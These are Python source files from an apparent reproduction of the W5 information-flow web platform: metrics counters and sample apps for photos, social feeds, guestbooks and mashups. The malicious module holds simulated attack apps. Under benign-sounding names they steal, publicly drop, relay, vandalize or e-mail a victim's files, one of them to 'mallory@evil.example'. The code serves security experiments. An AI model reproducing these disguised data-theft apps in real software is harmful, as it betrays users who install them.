    def _ingest(self, event: AuditEvent) -> None:
        self._by_category[(event.category, event.allowed)] += 1
        self._by_subject[event.subject] += 1
        if not event.allowed:
            self._denials_by_subject[event.subject] += 1

    # -- reads ------------------------------------------------------------

    def count(self, category: str, allowed: Optional[bool] = None) -> int:
        if allowed is None:
            return (self._by_category[(category, True)]
                    + self._by_category[(category, False)])
        return self._by_category[(category, allowed)]

    def denial_rate(self, category: str) -> float:
        total = self.count(category)
        if total == 0:
            return 0.0
        return self.count(category, allowed=False) / total

    def busiest_subjects(self, k: int = 5) -> list[tuple[str, int]]:
        return self._by_subject.most_common(k)

    def top_denied_subjects(self, k: int = 5) -> list[tuple[str, int]]:
        return self._denials_by_subject.most_common(k)

    def snapshot(self) -> dict[str, int]:
        """A flat dict (``category.allow``/``category.deny`` keys)."""
        out: dict[str, int] = {}
        for (category, allowed), n in sorted(self._by_category.items()):
            out[f"{category}.{'allow' if allowed else 'deny'}"] = n
        return out
