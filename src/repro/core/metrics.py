"""Metrics: live counters derived from the audit stream.

Benchmarks and operators both want "how many exports were denied this
minute" without scanning the whole audit log.  ``Metrics`` subscribes
to an :class:`~repro.kernel.audit.AuditLog` and keeps running counters
by (category, verdict) and by subject, cheap to read at any time.

It can also observe the kernel's flow cache
(:meth:`attach_flow_cache`): cache hit/miss/invalidation counters ride
along in :meth:`cache_snapshot`, and per-category flow-check latency is
aggregated in :meth:`flow_latency` — this is how EXPERIMENTS.md's
before/after numbers for the fast-path label engine are collected.

Purely observational: it never influences a decision, so it sits
outside the trusted base.
"""

from __future__ import annotations

from collections import Counter
from typing import TYPE_CHECKING, Any, Optional

from ..kernel.audit import AuditEvent, AuditLog

if TYPE_CHECKING:  # pragma: no cover
    from ..labels.cache import FlowCache
    from ..platform.provider import Provider


class _LatencyStat:
    """Streaming count/total/min/max for one flow-check category."""

    __slots__ = ("count", "total", "min", "max")

    def __init__(self) -> None:
        self.count = 0
        self.total = 0.0
        self.min = float("inf")
        self.max = 0.0

    def add(self, seconds: float) -> None:
        self.count += 1
        self.total += seconds
        if seconds < self.min:
            self.min = seconds
        if seconds > self.max:
            self.max = seconds

    def as_dict(self) -> dict[str, float]:
        return {
            "count": self.count,
            "total_s": self.total,
            "mean_us": (self.total / self.count * 1e6) if self.count else 0.0,
            "min_us": (self.min * 1e6) if self.count else 0.0,
            "max_us": self.max * 1e6,
        }


class Metrics:
    """Counter aggregation over an audit log (attach once, read often)."""

    def __init__(self, audit: AuditLog) -> None:
        self._by_category: Counter[tuple[str, bool]] = Counter()
        self._by_subject: Counter[str] = Counter()
        self._denials_by_subject: Counter[str] = Counter()
        self._flow_cache: Optional["FlowCache"] = None
        self._provider: Optional["Provider"] = None
        self._data_provider: Optional["Provider"] = None
        self._persistence_provider: Optional["Provider"] = None
        self._latency: dict[str, _LatencyStat] = {}
        # fold in anything already logged, then follow the stream
        for event in audit:
            self._ingest(event)
        audit.subscribe(self._ingest)

    def _ingest(self, event: AuditEvent) -> None:
        self._by_category[(event.category, event.allowed)] += 1
        self._by_subject[event.subject] += 1
        if not event.allowed:
            self._denials_by_subject[event.subject] += 1

    # -- reads ------------------------------------------------------------

    def count(self, category: str, allowed: Optional[bool] = None) -> int:
        if allowed is None:
            return (self._by_category[(category, True)]
                    + self._by_category[(category, False)])
        return self._by_category[(category, allowed)]

    def denial_rate(self, category: str) -> float:
        total = self.count(category)
        if total == 0:
            return 0.0
        return self.count(category, allowed=False) / total

    def busiest_subjects(self, k: int = 5) -> list[tuple[str, int]]:
        return self._by_subject.most_common(k)

    def top_denied_subjects(self, k: int = 5) -> list[tuple[str, int]]:
        return self._denials_by_subject.most_common(k)

    def snapshot(self) -> dict[str, int]:
        """A flat dict (``category.allow``/``category.deny`` keys)."""
        out: dict[str, int] = {}
        for (category, allowed), n in sorted(self._by_category.items()):
            out[f"{category}.{'allow' if allowed else 'deny'}"] = n
        return out

    # -- flow-cache observation -------------------------------------------

    def attach_flow_cache(self, cache: "FlowCache") -> "Metrics":
        """Start observing ``cache``: its counters become readable via
        :meth:`cache_snapshot` and every consumer-facing flow check is
        timed into :meth:`flow_latency` (per category: ipc, fs.read,
        fs.write, db.read, db.write, net.export, ...).  Returns self
        for chaining: ``Metrics(k.audit).attach_flow_cache(k.flow_cache)``.
        """
        self._flow_cache = cache
        cache.observer = self._observe_latency
        return self

    def _observe_latency(self, category: str, seconds: float) -> None:
        stat = self._latency.get(category)
        if stat is None:
            stat = self._latency[category] = _LatencyStat()
        stat.add(seconds)

    def cache_snapshot(self) -> dict[str, Any]:
        """The attached flow cache's hit/miss/invalidation counters
        (empty dict if no cache is attached)."""
        if self._flow_cache is None:
            return {}
        return self._flow_cache.stats()

    def cache_hit_rate(self) -> float:
        if self._flow_cache is None:
            return 0.0
        return self._flow_cache.hit_rate()

    # -- request-plane observation ----------------------------------------

    def attach_request_plane(self, provider: "Provider") -> "Metrics":
        """Start observing a provider's request-plane caches: the
        launch-capability index, the export-authority memo, and the
        process pool.  Returns self for chaining, mirroring
        :meth:`attach_flow_cache`."""
        self._provider = provider
        return self

    def request_plane_snapshot(self) -> dict[str, Any]:
        """Hit/miss/invalidation counters for every request-plane
        cache (empty dict if no provider is attached)."""
        if self._provider is None:
            return {}
        return {
            "launch_caps": self._provider.capindex.stats(),
            "authority": self._provider.declass.authority_stats(),
            "pool": self._provider.kernel.pool.stats(),
            "audit_dropped": self._provider.kernel.audit.dropped,
        }

    # -- data-plane observation --------------------------------------------

    def attach_data_plane(self, provider: "Provider") -> "Metrics":
        """Start observing a provider's data-plane engines: the
        partitioned store's partition hit/skip counters and the
        filesystem's walk-pruning counters.  Returns self for chaining,
        mirroring :meth:`attach_request_plane`."""
        self._data_provider = provider
        return self

    def data_plane_snapshot(self) -> dict[str, Any]:
        """Partition/pruning counters for the attached provider's
        store and filesystem (empty dict if none attached)."""
        if self._data_provider is None:
            return {}
        return {"db": self._data_provider.db.stats(),
                "fs": self._data_provider.fs.stats()}

    # -- durability observation --------------------------------------------

    def attach_persistence(self, provider: "Provider") -> "Metrics":
        """Start observing a provider's durability plane: journal
        appends and bytes, compactions, replayed records, torn-tail
        truncations.  Returns self for chaining, mirroring
        :meth:`attach_request_plane` / :meth:`attach_data_plane`."""
        self._persistence_provider = provider
        return self

    def persistence_snapshot(self) -> dict[str, Any]:
        """The attached provider's journal/compaction/replay counters
        (empty dict if none attached; ``incremental_persistence: False``
        when the provider runs the naive full-snapshot baseline)."""
        provider = getattr(self, "_persistence_provider", None)
        if provider is None:
            return {}
        return provider.persistence_stats()

    def flow_latency(self, category: Optional[str] = None) -> dict[str, Any]:
        """Aggregated flow-check latency.

        With ``category`` the stats for that category alone; without,
        a mapping of every observed category to its stats.
        """
        if category is not None:
            stat = self._latency.get(category)
            return stat.as_dict() if stat is not None else {}
        return {cat: stat.as_dict()
                for cat, stat in sorted(self._latency.items())}
