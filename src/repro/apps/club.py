"""Club board: an application over a shared group space.

Exercises group tags end to end: members post to and read a shared
board stored under the group's labels.  A member's post is *group*
data — every member can read it through any group-enabled app, and it
exits the perimeter only toward members (the group declassifier).

Routes (under ``/app/club-board/...``):

* ``post`` — params: group, text
* ``read`` — params: group
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule


def club_board(ctx: AppContext) -> Any:
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "read"
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "groups":
        return {"groups": ctx.my_groups()}

    group_name = ctx.request.param("group")
    board_path = f"/groups/{group_name}/board"

    if action == "post":
        data_tag, write_tag = ctx.group_tags(group_name)
        ctx.read_group(group_name)
        entry = {"by": ctx.viewer, "text": ctx.request.param("text")}
        if ctx.fs.exists(board_path):
            board = ctx.fs.read(board_path)
            board.append(entry)
            ctx.fs.write(board_path, board)
        else:
            ctx.fs.create(board_path, [entry],
                          slabel=Label([data_tag]),
                          ilabel=Label([write_tag]))
        return {"posted": group_name}

    if action == "read":
        ctx.read_group(group_name)
        if not ctx.fs.exists(board_path):
            return {"group": group_name, "board": []}
        return {"group": group_name, "board": ctx.fs.read(board_path)}

    return {"error": f"unknown action {action}"}


MODULES = [
    AppModule("club-board", developer="devClub", handler=club_board,
              kind=APP, description="A shared board for your groups."),
]
