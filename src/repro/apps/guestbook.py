"""Guestbook: cross-user writes and multi-owner pages.

Amy signs Bob's wall.  Whose data is the comment?  W5's answer falls
out of the labels: it is *Amy's* data (tagged with her secrecy tag,
write-protected with her write tag) that happens to be indexed under
Bob's wall.  Rendering Bob's wall therefore commingles every signer's
tags, and the page reaches a viewer only if **every** signer's
declassifier approves them — the same composition rule as the social
feed, exercised here in the write direction.

A DIFC design note: the renderer must know *whose* tags to raise
before it can read any comment, but the comment rows themselves are
unreadable until it raises.  The app resolves the chicken-and-egg the
way real DIFC applications do — with a small, deliberate disclosure:
signing first writes a **public presence marker** (wall, author) while
the process is still clean, then taints and writes the comment body
under the author's labels.  "Amy signed Bob's wall" is public by the
signer's own action; what she wrote is not.

Routes (under ``/app/guestbook/...``):

* ``sign`` — params: wall, text
* ``view`` — params: wall
* ``erase`` — params: wall (author erases their own comments there)
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule

TABLE = "guestbook_entries"
SIGNERS = "guestbook_signers"


def _ensure_table(ctx: AppContext) -> None:
    from ..db import TableExists
    for name in (TABLE, SIGNERS):
        try:
            ctx.db.create_table(name, indexes=["wall"])
        except TableExists:
            pass


def guestbook(ctx: AppContext) -> Any:
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "view"
    _ensure_table(ctx)
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "sign":
        wall = ctx.request.param("wall")
        # public presence marker FIRST, while the process is clean
        if not ctx.db.select(SIGNERS, where={"wall": wall},
                             predicate=lambda r: r["author"]
                             == ctx.viewer):
            ctx.db.insert(SIGNERS, {"wall": wall, "author": ctx.viewer},
                          slabel=Label.EMPTY,
                          ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        ctx.read_user(ctx.viewer)
        ctx.db.insert(TABLE, {"wall": wall, "author": ctx.viewer,
                              "text": ctx.request.param("text")},
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"signed": wall}

    if action == "view":
        wall = ctx.request.param("wall", ctx.viewer)
        # taint only with the wall's actual signers (public markers);
        # signers who did not enable this app are skipped
        signers = {r["author"] for r in
                   ctx.db.select(SIGNERS, where={"wall": wall})}
        for author in sorted(signers):
            try:
                ctx.read_user(author)
            except Exception:
                continue
        rows = ctx.db.select(TABLE, where={"wall": wall})
        return {"wall": wall,
                "entries": [{"author": r["author"], "text": r["text"]}
                            for r in rows]}

    if action == "erase":
        wall = ctx.request.param("wall")
        ctx.read_user(ctx.viewer)
        erased = ctx.db.delete(TABLE, where={"wall": wall},
                               predicate=lambda r: r["author"]
                               == ctx.viewer)
        return {"erased": erased}

    return {"error": f"unknown action {action}"}


MODULES = [
    AppModule("guestbook", developer="devWall", handler=guestbook,
              kind=APP, description="Sign your friends' walls."),
]
