"""Social networking on W5 (§3.1's motivating application).

The app keeps its own friend edges in the shared store (application
data, opaque to the provider) and renders profiles and feeds.  Whether
a rendered page actually *leaves* the platform toward a given viewer is
not this app's call: the owner's friends-only declassifier makes that
decision at the perimeter.  A correct deployment keeps the app's edge
set and the declassifier's friend list in sync (the example does), and
the security property holds even when they drift — the declassifier
wins, by construction.

Routes (under ``/app/social/...``):

* ``befriend`` — params: friend (records a directed edge by viewer)
* ``friends``  — list the viewer's outgoing edges
* ``profile``  — params: user (renders that user's profile)
* ``feed``     — renders recent posts of the viewer's friends
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule

EDGES = "social_edges"


def _ensure_tables(ctx: AppContext) -> None:
    from ..db import TableExists
    try:
        ctx.db.create_table(EDGES, indexes=["src"])
    except TableExists:
        pass


def social(ctx: AppContext) -> Any:
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "profile"
    _ensure_tables(ctx)
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "befriend":
        friend = ctx.request.param("friend")
        ctx.read_user(ctx.viewer)
        ctx.db.insert(EDGES, {"src": ctx.viewer, "dst": friend},
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"befriended": friend}

    if action == "friends":
        ctx.read_user(ctx.viewer)
        rows = ctx.db.select(EDGES, where={"src": ctx.viewer})
        return {"friends": sorted(r["dst"] for r in rows)}

    if action == "profile":
        target = ctx.request.param("user", ctx.viewer)
        profile = ctx.profile_of(target)  # taints with target's tag
        return {"user": target, "profile": profile}

    if action == "feed":
        ctx.read_user(ctx.viewer)
        rows = ctx.db.select(EDGES, where={"src": ctx.viewer})
        friends = sorted(r["dst"] for r in rows)
        feed = []
        from .blog import TABLE as BLOG_TABLE
        for friend in friends:
            ctx.read_user(friend)  # commingling: taint accumulates
            posts = ctx.db.select(BLOG_TABLE, where={"author": friend})
            feed.extend({"author": friend, "title": p["title"]}
                        for p in posts)
        return {"feed": feed}

    return {"error": f"unknown action {action}"}


MODULES = [
    AppModule("social", developer="devSocial", handler=social, kind=APP,
              description="Profiles, friends, and a feed.",
              imports=("blog",)),
]
