"""Developer-contributed applications (benign and adversarial).

:func:`install_standard_apps` registers the whole catalog on a
provider; individual module lists are importable for narrower setups.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from . import (blog, chameleon, club, dating, guestbook, malicious,
               mashup, photos, recommender)
from . import social as social_app

if TYPE_CHECKING:  # pragma: no cover
    from ..platform import AppModule, Provider

#: Every module in the standard catalog, in registration order.
STANDARD_CATALOG = (photos.MODULES + blog.MODULES + social_app.MODULES
                    + recommender.MODULES + dating.MODULES
                    + chameleon.MODULES + mashup.MODULES
                    + guestbook.MODULES + club.MODULES)

#: The adversarial catalog (registered separately by security tests).
ADVERSARIAL_CATALOG = malicious.MODULES


def install_standard_apps(provider: "Provider") -> list["AppModule"]:
    """Register the benign catalog; returns the registered modules."""
    return [provider.register_app(m) for m in STANDARD_CATALOG]


def install_adversarial_apps(provider: "Provider") -> list["AppModule"]:
    """Register mallory's catalog (experiments C1/C4/C9)."""
    return [provider.register_app(m) for m in ADVERSARIAL_CATALOG]
