"""Adversarial applications — the paper's threat model, made executable.

"Bad developers might upload applications designed to steal data,
maliciously delete it, vandalize it, or misrepresent it" (§3).  Every
attack here is developer code using only the public app API; the
experiments (C1, C4, C9) count what each one actually achieves on W5
versus on the status-quo baselines.

* :func:`data_thief` — reads a victim's data and returns it, hoping the
  platform ships it to whoever asked (it ships only to the victim).
* :func:`exfil_writer` — tries to *copy* secrets into a public file so
  an unprivileged accomplice (or anonymous visitor) can fetch them.
* :func:`confederate_sender` / :func:`confederate_receiver` — a
  colluding pair: one tainted app tries to relay secrets to a clean
  process via IPC ("enlist another untrusted application", §3.1).
* :func:`vandal` — overwrites or deletes every user file it can reach.
* :func:`resource_hog` — burns CPU/queries to starve honest apps (§3.5).
* :func:`proprietary_writer` — the §3.2 "anti-social" app: not thievery,
  just lock-in (writes a proprietary blob format).
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule

PUBLIC_DROP = "/public_drop"


def data_thief(ctx: AppContext) -> Any:
    """Read the victim's note and return it to *whoever is viewing*."""
    victim = ctx.request.param("victim")
    ctx.read_user(victim)
    loot = []
    home = f"/users/{victim}"
    for name in ctx.fs.listdir(home):
        try:
            loot.append({name: ctx.fs.read(f"{home}/{name}")})
        except Exception:
            continue
    return {"loot": loot}


def exfil_writer(ctx: AppContext) -> Any:
    """Copy the victim's data into a world-readable file."""
    victim = ctx.request.param("victim")
    ctx.read_user(victim)
    home = f"/users/{victim}"
    names = ctx.fs.listdir(home)
    stolen = {name: ctx.fs.read(f"{home}/{name}") for name in names
              if not ctx.fs.stat(f"{home}/{name}")["is_dir"]}
    # The attack: create a PUBLIC (empty-label) file with the secrets.
    ctx.fs.create(f"{PUBLIC_DROP}/loot-{victim}", stolen,
                  slabel=Label.EMPTY)
    return {"dropped": True}


def confederate_sender(ctx: AppContext) -> Any:
    """Taint self with the victim's tag, then relay to a clean helper.

    The helper is spawned *before* tainting (while this process is
    still clean, so the spawn itself is legal); the relay send is what
    the kernel must refuse.
    """
    victim = ctx.request.param("victim")
    helper = ctx.sys.spawn("confederate", slabel=Label.EMPTY)
    inbox = helper.create_endpoint(direction="recv")
    ctx.read_user(victim)
    home = f"/users/{victim}"
    names = ctx.fs.listdir(home)
    secret = {name: ctx.fs.read(f"{home}/{name}") for name in names
              if not ctx.fs.stat(f"{home}/{name}")["is_dir"]}
    out = ctx.sys.create_endpoint(direction="send")
    ctx.sys.send(out, inbox, secret)      # the kernel must refuse this
    return {"relayed": True}


def vandal(ctx: AppContext) -> Any:
    """Deface or delete every file in the victim's home."""
    victim = ctx.request.param("victim")
    mode = ctx.request.param("mode", "deface")
    ctx.read_user(victim)
    home = f"/users/{victim}"
    hit = 0
    for name in ctx.fs.listdir(home):
        path = f"{home}/{name}"
        try:
            if mode == "delete":
                ctx.fs.delete(path)
            else:
                ctx.fs.write(path, "DEFACED")
            hit += 1
        except Exception:
            continue
    return {"vandalized": hit}


def resource_hog(ctx: AppContext) -> Any:
    """Burn platform resources: a tight syscall/query loop (§3.5)."""
    spins = int(ctx.request.param("spins", 10_000))
    done = 0
    for __ in range(spins):
        # each pending() call is a charged syscall; each count a query
        ctx.sys.pending()
        done += 1
    return {"spun": done}


def phone_home(ctx: AppContext) -> Any:
    """Read the victim's data and e-mail it to the developer — the
    §3.1 example attack verbatim ("certainly not, say, emailed to the
    application's author")."""
    victim = ctx.request.param("victim")
    ctx.read_user(victim)
    home = f"/users/{victim}"
    loot = {name: ctx.fs.read(f"{home}/{name}")
            for name in ctx.fs.listdir(home)
            if not ctx.fs.stat(f"{home}/{name}")["is_dir"]}
    ctx.send_email("mallory@evil.example", "backup", loot)
    return {"mailed": True}


def proprietary_writer(ctx: AppContext) -> Any:
    """Anti-social, not malicious: store the user's data in a format
    only this developer's code can parse (§3.2)."""
    ctx.read_user(ctx.viewer)
    blob = "PROPRIETARYv1\x00" + "\x01".join(
        f"{k}={v}" for k, v in sorted(ctx.request.params.items()))
    path = f"/users/{ctx.viewer}/proprietary.dat"
    if ctx.fs.exists(path):
        ctx.fs.write(path, blob)
    else:
        ctx.fs.create(path, blob,
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
    return {"stored": "proprietary"}


MODULES = [
    AppModule("data-thief", developer="mallory", handler=data_thief,
              kind=APP, description="Totally legitimate photo backup.",
              source_open=False),
    AppModule("exfil-writer", developer="mallory", handler=exfil_writer,
              kind=APP, description="Cloud sync (definitely).",
              source_open=False),
    AppModule("confederate", developer="mallory",
              handler=confederate_sender, kind=APP,
              description="Performance accelerator.", source_open=False),
    AppModule("vandal", developer="mallory", handler=vandal, kind=APP,
              description="Disk cleaner.", source_open=False),
    AppModule("resource-hog", developer="mallory", handler=resource_hog,
              kind=APP, description="Benchmark utility.",
              source_open=False),
    AppModule("phone-home", developer="mallory", handler=phone_home,
              kind=APP, description="Off-site backup service.",
              source_open=False),
    AppModule("proprietary-writer", developer="lockin-corp",
              handler=proprietary_writer, kind=APP,
              description="Premium data manager."),
]
