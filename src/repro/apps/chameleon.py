"""The chameleon profile (§2 Examples).

"Bob can also create a 'chameleon' profile display that adjusts its
output based on the viewer (for instance, to hide his penchant for
Sci-Fi novels from love interests)."

The *content* adaptation is app logic: the owner stores a hide-list
mapping profile fields to the viewers they are hidden from.  Whether
the adapted page may leave the perimeter at all is still the owner's
declassifier's call — the two mechanisms compose.

Routes (under ``/app/chameleon/...``):

* ``configure`` — params: field, hide_from (comma-separated viewers)
* ``show``      — params: owner: render owner's adapted profile
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule

CONFIG_FILE = "chameleon.cfg"


def chameleon(ctx: AppContext) -> Any:
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "show"
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "configure":
        ctx.read_user(ctx.viewer)
        path = f"/users/{ctx.viewer}/{CONFIG_FILE}"
        config = ctx.fs.read(path) if ctx.fs.exists(path) else {}
        hide_from = [v.strip() for v in
                     str(ctx.request.param("hide_from", "")).split(",")
                     if v.strip()]
        config[ctx.request.param("field")] = hide_from
        if ctx.fs.exists(path):
            ctx.fs.write(path, config)
        else:
            ctx.fs.create(path, config,
                          slabel=Label([ctx.tag_for(ctx.viewer)]),
                          ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"configured": ctx.request.param("field")}

    if action == "show":
        owner = ctx.request.param("owner", ctx.viewer)
        profile = ctx.profile_of(owner)  # taints with owner's tag
        path = f"/users/{owner}/{CONFIG_FILE}"
        config = ctx.fs.read(path) if ctx.fs.exists(path) else {}
        visible = {
            field: value for field, value in profile.items()
            if ctx.viewer == owner or ctx.viewer not in config.get(field, [])
        }
        return {"user": owner, "profile": visible}

    return {"error": f"unknown action {action}"}


MODULES = [
    AppModule("chameleon", developer="bob", handler=chameleon, kind=APP,
              description="Viewer-dependent profile display."),
]
