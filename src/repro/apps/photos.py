"""Photo sharing on W5 — the paper's running example (§1, Figure 2).

Photos live in the owner's labeled home directory; the app logic is
developer code with *no* special standing: it reads photos only by
tainting itself and can never export them (the gateway does that,
subject to the owner's declassifiers).

The app exposes a module slot, ``cropper`` — §2's "use developer A's
photo cropping module and developer B's labeling module" — with two
competing implementations registered by different developers.  A user
picks one with ``prefer_module``; the choice is honored per request.

Routes (under ``/app/photo-share/...``):

* ``upload``  — params: filename, data
* ``list``    — params: owner (defaults to viewer)
* ``view``    — params: owner, filename
* ``crop``    — params: filename, width, height (viewer's own photo)
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule, MODULE


def _photo_dir(ctx: AppContext, owner: str) -> str:
    return f"/users/{owner}/photos"


def _ensure_photo_dir(ctx: AppContext, owner: str) -> str:
    path = _photo_dir(ctx, owner)
    if not ctx.fs.exists(path):
        ctx.fs.mkdir(path,
                     slabel=Label([ctx.tag_for(owner)]),
                     ilabel=Label([ctx.write_tag_for(owner)]))
    return path


def photo_share(ctx: AppContext) -> Any:
    """The photo-sharing application handler."""
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "list"
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "upload":
        ctx.read_user(ctx.viewer)
        directory = _ensure_photo_dir(ctx, ctx.viewer)
        filename = ctx.request.param("filename")
        ctx.fs.create(f"{directory}/{filename}",
                      ctx.request.param("data"),
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"uploaded": filename}

    if action == "list":
        owner = ctx.request.param("owner", ctx.viewer)
        ctx.read_user(owner)
        directory = _photo_dir(ctx, owner)
        names = ctx.fs.listdir(directory) if ctx.fs.exists(directory) else []
        return {"owner": owner, "photos": names}

    if action == "view":
        owner = ctx.request.param("owner", ctx.viewer)
        filename = ctx.request.param("filename")
        ctx.read_user(owner)
        # also taint with the viewer so jointly-owned photos (labels
        # carrying both tags) are readable when the viewer is one of
        # the owners; the extra taint is free — the response is headed
        # to the viewer regardless
        try:
            ctx.read_user(ctx.viewer)
        except Exception:
            pass  # viewer did not enable the app for their own data
        data = ctx.fs.read(f"{_photo_dir(ctx, owner)}/{filename}")
        return {"owner": owner, "filename": filename, "data": data}

    if action == "crop":
        filename = ctx.request.param("filename")
        width = int(ctx.request.param("width", 100))
        height = int(ctx.request.param("height", 100))
        ctx.read_user(ctx.viewer)
        path = f"{_photo_dir(ctx, ctx.viewer)}/{filename}"
        original = ctx.fs.read(path)
        cropped = ctx.call_module("cropper", "crop-basic",
                                  original, width, height)
        ctx.fs.write(path, cropped)
        return {"cropped": filename, "size": [width, height]}

    return {"error": f"unknown action {action}"}


def crop_basic(ctx: AppContext, data: Any, width: int, height: int) -> str:
    """Developer A's cropper: center crop (simulated)."""
    return f"cropped[{width}x{height},center]:{data}"


def crop_smart(ctx: AppContext, data: Any, width: int, height: int) -> str:
    """Developer B's cropper: 'smart' subject-aware crop (simulated)."""
    return f"cropped[{width}x{height},smart]:{data}"


def label_basic(ctx: AppContext, data: Any) -> list[str]:
    """Developer A's labeler: trivially tags by extension."""
    return ["photo"]


MODULES = [
    AppModule("photo-share", developer="devPhoto", handler=photo_share,
              kind=APP, description="Store, view, and crop photos.",
              imports=("crop-basic",)),
    AppModule("crop-basic", developer="devA", handler=crop_basic,
              kind=MODULE, description="Center-crop module."),
    AppModule("crop-smart", developer="devB", handler=crop_smart,
              kind=MODULE, description="Subject-aware crop module."),
    AppModule("label-basic", developer="devA", handler=label_basic,
              kind=MODULE, description="Simple photo labeler."),
]
