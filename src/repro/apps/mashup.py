"""The address-book/map mashup — the paper's §4 head-to-head example.

"Consider a mashup that combines a page of a private address book from
MyYahoo with map from Google. [...] The same application on W5 could
generate the annotated map on the server side, disallowing export of
the address data to the map developers."

Here the "map provider" is third-party developer code (the
``map-render`` module) running *inside* the W5 perimeter.  It sees the
addresses — it must, to place markers — but it runs confined in the
mashup's tainted process: it has no channel to its developer.  The
mashup's output goes only to the address book's owner.  Experiment C8
runs this same scenario on all four platform baselines and counts who
learned what.

Routes (under ``/app/address-map/...``):

* ``add``  — params: name, address (adds an address-book entry)
* ``map``  — renders the annotated map of the viewer's address book
"""

from __future__ import annotations

from typing import Any

from ..labels import Label
from ..platform import APP, AppContext, AppModule, MODULE

BOOK = "address_book"


def _ensure_table(ctx: AppContext) -> None:
    from ..db import TableExists
    try:
        ctx.db.create_table(BOOK, indexes=["owner"])
    except TableExists:
        pass


def address_map(ctx: AppContext) -> Any:
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "map"
    _ensure_table(ctx)
    if ctx.viewer is None:
        return {"error": "log in first"}

    if action == "add":
        ctx.read_user(ctx.viewer)
        ctx.db.insert(BOOK, {"owner": ctx.viewer,
                             "name": ctx.request.param("name"),
                             "address": ctx.request.param("address")},
                      slabel=Label([ctx.tag_for(ctx.viewer)]),
                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
        return {"added": ctx.request.param("name")}

    if action == "map":
        ctx.read_user(ctx.viewer)
        entries = ctx.db.select(BOOK, where={"owner": ctx.viewer})
        rendered = ctx.call_module(
            "map-renderer", "map-render",
            [(e["name"], e["address"]) for e in entries])
        return {"map": rendered, "markers": len(entries)}

    return {"error": f"unknown action {action}"}


def map_render(ctx: AppContext, markers: list[tuple[str, str]]) -> str:
    """The third-party map module: sees addresses, renders markers.

    Confinement, not ignorance, is the mechanism: this code reads the
    addresses but runs inside the caller's tainted process with no
    route to its developer.
    """
    placed = "|".join(f"{name}@{_geocode(address)}"
                      for name, address in sorted(markers))
    return f"<map tiles=synthetic markers={placed}>"


def _geocode(address: str) -> str:
    """A deterministic fake geocoder (lat,lon from the address hash)."""
    h = sum(ord(c) * (i + 1) for i, c in enumerate(address))
    return f"{h % 180 - 90}.{h % 1000:03d},{h % 360 - 180}.{h % 997:03d}"


MODULES = [
    AppModule("address-map", developer="devMash", handler=address_map,
              kind=APP, description="Your address book on a map.",
              imports=("map-render",)),
    AppModule("map-render", developer="map-corp", handler=map_render,
              kind=MODULE, description="Marker-placing map renderer."),
]
