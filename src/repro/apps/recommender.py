"""Arbitrary recommendation engines over private data (§2 Examples).

"Bob can deploy an application that sends him daily e-mail with the 5
most 'relevant' photos and blog entries posted by his friends."  On
today's Web this app cannot exist without every friend's site exposing
an API *and* trusting the app's developer; on W5 it is an afternoon
project: read everything you're allowed to taint yourself with, score
it, and let the perimeter decide whether the digest may reach you.

The scoring function is a module slot (``scorer``) so users can pick
competing relevance metrics — or upload their own.

Routes (under ``/app/recommender/...``):

* ``digest`` — params: k (default 5): top-k items from friends
"""

from __future__ import annotations

from typing import Any

from ..platform import APP, AppContext, AppModule, MODULE
from .blog import TABLE as BLOG_TABLE
from .social import EDGES


def recommender(ctx: AppContext) -> Any:
    if ctx.viewer is None:
        return {"error": "log in first"}
    parts = ctx.request.path_parts()
    action = parts[2] if len(parts) > 2 else "digest"
    k = int(ctx.request.param("k", 5))
    ctx.read_user(ctx.viewer)
    edges = ctx.db.select(EDGES, where={"src": ctx.viewer})
    friends = sorted(r["dst"] for r in edges)
    items: list[dict[str, Any]] = []
    for friend in friends:
        try:
            ctx.read_user(friend)
        except Exception:
            continue  # friend has not enabled this app: skip them
        for post in ctx.db.select(BLOG_TABLE, where={"author": friend}):
            items.append({"kind": "post", "author": friend,
                          "title": post["title"], "body": post["body"]})
        photo_dir = f"/users/{friend}/photos"
        if ctx.fs.exists(photo_dir):
            for name in ctx.fs.listdir(photo_dir):
                items.append({"kind": "photo", "author": friend,
                              "title": name})
    scored = [(ctx.call_module("scorer", "score-recency", item), item)
              for item in items]
    scored.sort(key=lambda pair: pair[0], reverse=True)
    digest = {"digest": [item for __, item in scored[:k]],
              "considered": len(items)}
    if action == "email":
        # the §2 example: "sends him daily e-mail with the 5 most
        # 'relevant' photos and blog entries posted by his friends"
        ctx.send_email(ctx.my_email_address(), "your daily digest",
                       digest)
        return {"emailed": ctx.my_email_address(),
                "items": len(digest["digest"])}
    return digest


def score_recency(ctx: AppContext, item: dict[str, Any]) -> float:
    """Default scorer: photos first, then longest titles (stand-in for
    recency, which the store does not model)."""
    base = 10.0 if item["kind"] == "photo" else 5.0
